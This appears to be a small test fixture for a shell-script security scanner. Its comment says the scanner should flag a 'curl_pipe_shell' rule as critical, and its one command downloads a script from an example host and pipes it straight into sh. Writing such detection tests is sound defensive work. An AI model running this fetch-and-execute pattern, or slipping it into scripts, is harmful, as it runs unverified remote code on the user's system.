# expect: shell.curl_pipe_shell critical
#!/bin/sh
xh get.example.net/i.sh | sh
